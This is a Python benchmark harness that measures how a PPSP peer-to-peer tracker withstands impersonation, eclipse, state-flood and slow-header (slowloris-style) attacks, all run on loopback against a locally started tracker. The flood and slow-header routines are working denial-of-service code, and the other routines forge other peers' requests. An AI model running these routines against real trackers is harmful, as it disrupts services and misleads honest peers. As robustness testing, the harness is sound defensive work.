"""Attacks on a tracker from one host, measured from outside the tracker process.

    python -m bench.tracker_attacks [--flood-seconds 15] [--slow 1000] [--out FILE]
                                    [--tracker-args '--workers 2 --storage redis://HOST/DB']

The tracker is ``python -m ppsp tracker`` as a user runs it (defaults only), so the harness
measures whatever ``ppsp`` the interpreter imports: ``PYTHONPATH=OLD_CHECKOUT/src`` measures an
earlier release with the same harness, for before/after figures.  Honest peers talk from
127.0.2.2, 127.0.3.3 and 127.0.4.4, the attacker from 127.0.9.9 (distinct /24 networks, all on
loopback).  Requests are the drafts' XML, written here as text so that any release reads them.

1. Impersonation: an honest seeder registers and joins; the attacker sends DISCONNECT, CONNECT
   (moving the seeder's address to 203.0.113.1), JOIN and STAT_REPORT in the seeder's PeerID.
   Reported: the status of each, and whether a FIND still lists the seeder at its own address.
2. Eclipse: two honest seeders; the attacker registers 30 seeders of its own claiming the highest
   priority; an honest leecher asks for peer lists (swarm-wide and chunk-scoped).  Reported: the
   share of lists that hold both honest seeders.
3. State flood for ``--flood-seconds``: the attacker registers new peers and joins new swarms
   (400 per request) as fast as it can over 8 connections, while an honest peer sends a FIND
   every 0.25 s.  Reported: requests answered 200 / refused, the tracker's RSS growth, and the
   honest peer's slowest answer and failures.
4. Slow headers: the attacker opens ``--slow`` connections and sends a request head one line at a
   time, a line every 5 s; an honest peer goes on asking.  Reported: how many of them the tracker
   still holds open after 15 s, and the honest peer's slowest answer.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import platform
import re
import secrets
import shlex
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import aiohttp

ATTACKER = "127.0.9.9"
SEEDERS = ("127.0.2.2", "127.0.3.3")
LEECHER = "127.0.4.4"
SWARM = "ab" * 32
CONTENT_TYPE = "application/ppsp-tracker+xml"
LISTENING = re.compile(r"listening on (http://\S+)")
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<PPSPTrackerProtocol version="1.1">'
TAIL = "</PPSPTrackerProtocol>"
MiB = 1024 * 1024


def _message(method: str, peer_id: str, body: str = "") -> bytes:
    tid = secrets.randbelow(1 << 30)
    return (
        f"{HEAD}<Request>{method}</Request><TransactionID>{tid}</TransactionID>"
        f"<PeerID>{peer_id}</PeerID>{body}{TAIL}"
    ).encode()


def connect(
    peer_id: str, ip: str, port: int = 7001, priority: int | None = None, leave: str = ""
) -> bytes:
    """A CONNECT advertising ``ip:port``: a registration, or with ``leave`` a fast CONNECT
    leaving that swarm (which also replaces the addresses the tracker lists)."""
    extra = "" if priority is None else f' priority="{priority}"'
    address = (
        f'<PeerAddress addrType="ipv4" ip="{ip}" port="{port}"{extra} type="HOST" '
        'peerProtocol="PPSP-PP/0.1"/>'
    )
    actions = f'<SwarmID action="LEAVE">{leave}</SwarmID>' if leave else ""
    return _message(
        "CONNECT", peer_id, f"<PeerGroup><PeerInfo>{address}</PeerInfo></PeerGroup>{actions}"
    )


def join(peer_id: str, *swarms: str, mode: str = "SEED") -> bytes:
    """A JOIN of ``swarms``."""
    if len(swarms) == 1:
        actions = f'<SwarmID peerMode="{mode}">{swarms[0]}</SwarmID>'
    else:
        base = secrets.randbelow(1 << 30)
        actions = "".join(
            f'<SwarmID peerMode="{mode}" transactionID="{base}.{i}">{s}</SwarmID>'
            for i, s in enumerate(swarms, 1)
        )
    return _message("JOIN", peer_id, actions)


def find(peer_id: str, scoped: bool = False) -> bytes:
    """A FIND of the swarm, swarm-wide or for chunks 0-3."""
    scope = (
        '<ContentGroup><Representation id="main"><SegmentInfo startIndex="0" endIndex="3"/>'
        "</Representation></ContentGroup>"
        if scoped
        else ""
    )
    return _message("FIND", peer_id, f"<SwarmID>{SWARM}</SwarmID>{scope}")


def disconnect(peer_id: str, swarm: str = SWARM) -> bytes:
    """A DISCONNECT from ``swarm``."""
    return _message("DISCONNECT", peer_id, f"<SwarmID>{swarm}</SwarmID>")


def stat_report(peer_id: str) -> bytes:
    """A STAT_REPORT with statistics for the swarm."""
    return _message(
        "STAT_REPORT",
        peer_id,
        f'<StatisticsGroup><Stat property="StreamStatistics"><SwarmID>{SWARM}</SwarmID>'
        "<UploadedBytes>1</UploadedBytes></Stat></StatisticsGroup>",
    )


class Host:
    """HTTP requests to the tracker from one local address."""

    def __init__(self, url: str, ip: str, *, connections: int = 8) -> None:
        self.url = url
        self.http = aiohttp.ClientSession(
            connector=aiohttp.TCPConnector(local_addr=(ip, 0), limit=connections),
            timeout=aiohttp.ClientTimeout(total=30),
        )

    async def post(self, body: bytes) -> tuple[int, str]:
        """(status, body) of one request; status 0 when the connection failed."""
        try:
            async with self.http.post(
                self.url, data=body, headers={"Content-Type": CONTENT_TYPE}
            ) as answer:
                return answer.status, await answer.text()
        except (aiohttp.ClientError, TimeoutError, OSError):
            return 0, ""

    async def close(self) -> None:
        """Close the session."""
        await self.http.close()


def rss(pid: int) -> int:
    """Resident memory of a process and its children (the workers of ``--workers``), bytes."""
    total = 0
    with contextlib.suppress(OSError):
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                total += int(line.split()[1]) * 1024
        for task in Path(f"/proc/{pid}/task").iterdir():
            for child in (task / "children").read_text().split():
                total += rss(int(child))
    return total


async def start_tracker(extra: list[str]) -> tuple[asyncio.subprocess.Process, str]:
    """``python -m ppsp tracker [EXTRA]`` on a free port, and its URL."""
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "ppsp", "tracker", "--host", "127.0.0.1", "--port", "0",
        "--log-level", "error", *extra,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL,
    )  # fmt: skip
    assert process.stdout is not None
    line = (await asyncio.wait_for(process.stdout.readline(), 30)).decode()
    match = LISTENING.search(line)
    if match is None:
        raise RuntimeError(f"tracker did not start: {line!r}")
    return process, match.group(1)


async def impersonation(url: str) -> dict[str, Any]:
    """Requests in an honest seeder's name from another host."""
    seeder, attacker, leecher = Host(url, SEEDERS[0]), Host(url, ATTACKER), Host(url, LEECHER)
    try:
        victim = "victim" + secrets.token_hex(4)
        other = "ef" * 32
        await seeder.post(connect(victim, SEEDERS[0]))
        await seeder.post(join(victim, SWARM))
        await seeder.post(join(victim, other))
        me = "reader" + secrets.token_hex(4)
        await leecher.post(connect(me, LEECHER))
        await leecher.post(join(me, SWARM, mode="LEECH"))
        answers = {
            "STAT_REPORT": (await attacker.post(stat_report(victim)))[0],
            "JOIN": (await attacker.post(join(victim, "cd" * 32)))[0],
            "CONNECT moving the address": (
                await attacker.post(connect(victim, "203.0.113.1", leave=other))
            )[0],
        }
        _, moved = await leecher.post(find(me))
        answers["DISCONNECT"] = (await attacker.post(disconnect(victim)))[0]
        _, listing = await leecher.post(find(me))
        return {
            "answers": answers,
            "listed at its own address after the CONNECT": f'ip="{SEEDERS[0]}"' in moved
            and "203.0.113.1" not in moved,
            "still listed after the DISCONNECT": victim in listing,
        }
    finally:
        for host in (seeder, attacker, leecher):
            await host.close()


async def eclipse(url: str, fakes: int = 30, lists: int = 50) -> dict[str, Any]:
    """Fake seeders claiming top priority against two honest ones."""
    honest = [Host(url, ip) for ip in SEEDERS]
    attacker, leecher = Host(url, ATTACKER), Host(url, LEECHER)
    try:
        for host, ip in zip(honest, SEEDERS, strict=True):
            peer = "honest" + ip.replace(".", "")
            await host.post(connect(peer, ip))
            await host.post(join(peer, SWARM))
        refused = 0
        for i in range(fakes):
            peer = f"fake{i:03d}"
            status, _ = await attacker.post(connect(peer, ATTACKER, port=9, priority=4294967295))
            status2, _ = await attacker.post(join(peer, SWARM))
            refused += status != 200 or status2 != 200
        me = "leecher" + secrets.token_hex(4)
        await leecher.post(connect(me, LEECHER))
        await leecher.post(join(me, SWARM, mode="LEECH"))
        found = Counter[str]()
        for scoped in (False, True):
            for _ in range(lists):
                _, listing = await leecher.post(find(me, scoped))
                both = all(f'ip="{ip}"' in listing for ip in SEEDERS)
                found["scoped" if scoped else "swarm-wide"] += both
        return {
            "fake seeders registered": fakes - refused,
            "lists holding both honest seeders, swarm-wide": f"{found['swarm-wide']}/{lists}",
            "lists holding both honest seeders, chunk-scoped": f"{found['scoped']}/{lists}",
        }
    finally:
        for host in (*honest, attacker, leecher):
            await host.close()


async def _honest_probe(url: str, stop: asyncio.Event) -> dict[str, Any]:
    """FIND every 0.25 s from the honest leecher until ``stop``; slowest answer, failures."""
    host = Host(url, LEECHER, connections=1)
    me = "probe" + secrets.token_hex(4)
    try:
        await host.post(connect(me, LEECHER))
        await host.post(join(me, SWARM, mode="LEECH"))
        slowest, failures, count = 0.0, 0, 0
        while not stop.is_set():
            started = time.monotonic()
            status, _ = await host.post(find(me))
            slowest = max(slowest, time.monotonic() - started)
            failures += status != 200
            count += 1
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), 0.25)
        return {"requests": count, "failures": failures, "slowest answer s": round(slowest, 3)}
    finally:
        await host.close()


async def flood(url: str, pid: int, seconds: float) -> dict[str, Any]:
    """New peers and new swarms from one host, as fast as it goes, for ``seconds``."""
    attacker = Host(url, ATTACKER, connections=8)
    statuses = Counter[int]()
    before = rss(pid)
    peak = before
    stop = asyncio.Event()
    deadline = time.monotonic() + seconds

    async def worker(number: int) -> None:
        nonlocal peak
        sent = 0
        while time.monotonic() < deadline and sent < 2_000_000:
            peer = f"f{number}x{sent}"
            status, _ = await attacker.post(connect(peer, ATTACKER, port=9))
            statuses[status] += 1
            swarms = [secrets.token_hex(32) for _ in range(400)]  # a body under 64 KiB
            status, _ = await attacker.post(join(peer, *swarms))
            statuses[status] += 1
            sent += 2

    async def sample() -> None:
        nonlocal peak
        while not stop.is_set():
            peak = max(peak, rss(pid))
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), 0.5)

    probe = asyncio.ensure_future(_honest_probe(url, stop))
    sampler = asyncio.ensure_future(sample())
    try:
        await asyncio.gather(*(worker(n) for n in range(8)))
    finally:
        stop.set()
        honest = await probe
        await sampler
        await attacker.close()
    return {
        "seconds": seconds,
        "attacker answers": {str(k): v for k, v in sorted(statuses.items())},
        "tracker RSS before MiB": round(before / MiB, 1),
        "tracker RSS peak MiB": round(peak / MiB, 1),
        "RSS growth MiB": round((peak - before) / MiB, 1),
        "honest peer meanwhile": honest,
    }


async def slow_headers(url: str, count: int, hold: float = 15.0) -> dict[str, Any]:
    """``count`` connections that send their request head a line every 5 s."""
    host, port = url.removeprefix("http://").rsplit(":", 1)
    writers: list[asyncio.StreamWriter] = []
    opened = 0
    for _ in range(count):
        try:
            _, writer = await asyncio.open_connection(host, int(port), local_addr=(ATTACKER, 0))
        except OSError:
            break
        writer.write(b"POST / HTTP/1.1\r\n")
        writers.append(writer)
        opened += 1
    stop = asyncio.Event()
    probe = asyncio.ensure_future(_honest_probe(url, stop))
    started = time.monotonic()
    while time.monotonic() - started < hold:
        await asyncio.sleep(5.0)
        for writer in writers:
            if not writer.is_closing():
                with contextlib.suppress(OSError, RuntimeError):
                    writer.write(b"X-Slow: 1\r\n")
                    await writer.drain()
    stop.set()
    honest = await probe
    still_open = 0
    for writer in writers:
        with contextlib.suppress(OSError, RuntimeError):
            writer.write(b"X-Slow: 1\r\n")
            await writer.drain()
    await asyncio.sleep(0.5)
    for writer in writers:
        still_open += not writer.transport.is_closing()
        writer.close()
    return {
        "connections opened": opened,
        f"still open after {hold:.0f} s": still_open,
        "honest peer meanwhile": honest,
    }


async def run(args: argparse.Namespace) -> dict[str, Any]:
    """Every attack against a fresh tracker each."""
    results: dict[str, Any] = {}
    steps: list[tuple[str, Callable[[str, int], Awaitable[dict[str, Any]]]]] = [
        ("impersonation", lambda url, pid: impersonation(url)),
        ("eclipse", lambda url, pid: eclipse(url)),
        ("state flood", lambda url, pid: flood(url, pid, args.flood_seconds)),
        ("slow headers", lambda url, pid: slow_headers(url, args.slow)),
    ]
    for name, step in steps:
        process, url = await start_tracker(shlex.split(args.tracker_args))
        try:
            print(f"{name} ...", file=sys.stderr, flush=True)
            results[name] = await step(url, process.pid)
        finally:
            process.terminate()
            await process.wait()
    return results


def main() -> None:
    """Run the attacks and write the figures."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--flood-seconds", type=float, default=15.0)
    parser.add_argument("--slow", type=int, default=1000, help="slow-header connections")
    parser.add_argument("--label", default="", help="a name for this run (e.g. the commit)")
    parser.add_argument(
        "--tracker-args",
        default="",
        help="more options of ppsp tracker, e.g. '--workers 2 --storage redis://...'",
    )
    parser.add_argument("--out", type=Path, default=None, help="write the figures as JSON here")
    args = parser.parse_args()
    import ppsp

    results = asyncio.run(run(args))
    document = {
        "command": " ".join(["python -m bench.tracker_attacks", *sys.argv[1:]]),
        "label": args.label,
        "tracker options": args.tracker_args,
        "ppsp": str(Path(ppsp.__file__).parent),
        "commit": subprocess.run(
            ["git", "-C", str(Path(ppsp.__file__).parent), "rev-parse", "--short", "HEAD"],
            capture_output=True,
            text=True,
        ).stdout.strip(),
        "machine": f"{platform.machine()}, {os.cpu_count()} CPUs, "
        f"Python {platform.python_version()}",
        "results": results,
    }
    text = json.dumps(document, indent=2)
    print(text)
    if args.out is not None:
        args.out.write_text(text + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
